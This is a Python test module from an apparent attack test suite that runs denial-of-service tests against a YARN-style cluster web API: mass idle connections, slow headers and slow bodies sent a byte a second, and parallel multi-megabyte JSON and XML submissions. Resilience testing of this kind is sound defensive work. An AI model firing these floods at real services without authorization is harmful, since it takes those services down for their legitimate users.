"""Connections to the web ports that say nothing, or slowly."""

from __future__ import annotations

import asyncio
import contextlib
import json

from tests.attacks.attack import Target, attack

WEB_IDLE, NODE_IDLE = 2_000, 256
SLOW, SLOW_S = 500, 5
NEVER_GIVEN = "application_1_0001"
LARGE, LARGE_BYTES, LARGE_ENTRIES = 80, 4 * 1024 * 1024, 10_000


async def _held_open(target: Target, address: tuple[str, int], count: int, words: bytes, seconds: int) -> int:
    """Connections of the attacker's, each with these words; as many as there is room for are opened again and again."""
    opened = 0
    async with contextlib.AsyncExitStack() as stack:
        writers = []
        for _ in range(count):
            with contextlib.suppress(ConnectionError, TimeoutError, OSError):
                _, writer = await stack.enter_async_context(target.connection(address))
                writer.write(words)
                writers.append(writer)
                opened += 1
        for _ in range(seconds):
            await asyncio.sleep(1)
            for writer in writers:
                if words and not writer.is_closing():
                    writer.write(b"x")
    return opened


@attack
async def idle_on_the_web_port(target: Target) -> str:
    return f"{await _held_open(target, target.addresses['webapp'], WEB_IDLE, b'', 3)} idle connections"


@attack
async def idle_on_a_nodes_web_port(target: Target) -> str:
    return f"{await _held_open(target, target.node_http, NODE_IDLE, b'', 3)} idle connections"


@attack
async def heads_that_come_slowly(target: Target) -> str:
    words = b"GET /ws/v1/cluster/info HTTP/1.1\r\nHost: x\r\nX-Slow: "
    return f"{await _held_open(target, target.addresses['webapp'], SLOW, words, SLOW_S)} heads, a byte a second"


@attack
async def bodies_that_come_slowly(target: Target) -> str:
    words = b"POST /ws/v1/cluster/apps HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
    words += b"Content-Length: 4000000\r\n\r\n{"
    return f"{await _held_open(target, target.addresses['webapp'], SLOW, words, SLOW_S)} bodies, a byte a second"


@attack
async def large_bodies_on_many_connections(target: Target) -> str:
    """Submissions of the greatest size, side by side: nearly as many values as a body may have, in half of them XML."""
    key = "v" * (LARGE_BYTES // LARGE_ENTRIES - 60)
    entries = [{"key": f"{number}", "value": key} for number in range(LARGE_ENTRIES)]
    job = {"application-id": NEVER_GIVEN, "am-container-spec": {"environment": {"entry": entries}}}
    as_json = json.dumps(job).encode()
    lines = "".join(f"<entry><key>{number}</key><value>{key}</value></entry>" for number in range(LARGE_ENTRIES))
    spec = f"<am-container-spec><environment>{lines}</environment></am-container-spec>"
    root = "application-submission-context"
    as_xml = f"<{root}><application-id>{NEVER_GIVEN}</application-id>{spec}</{root}>".encode()
    path = "/ws/v1/cluster/apps?user.name=mallory"
    bodies = [("xml", as_xml) if number % 2 else ("json", as_json) for number in range(LARGE)]
    assert max(len(body) for _, body in bodies) <= LARGE_BYTES
    answers = await asyncio.gather(
        *(
            target.http(
                "POST", path, body=body, headers={"Content-Type": f"application/{kind}", "User-Agent": "curl/8"}
            )
            for kind, body in bodies
        )
    )
    return f"{len(answers)} bodies of up to {LARGE_BYTES >> 20} MiB"
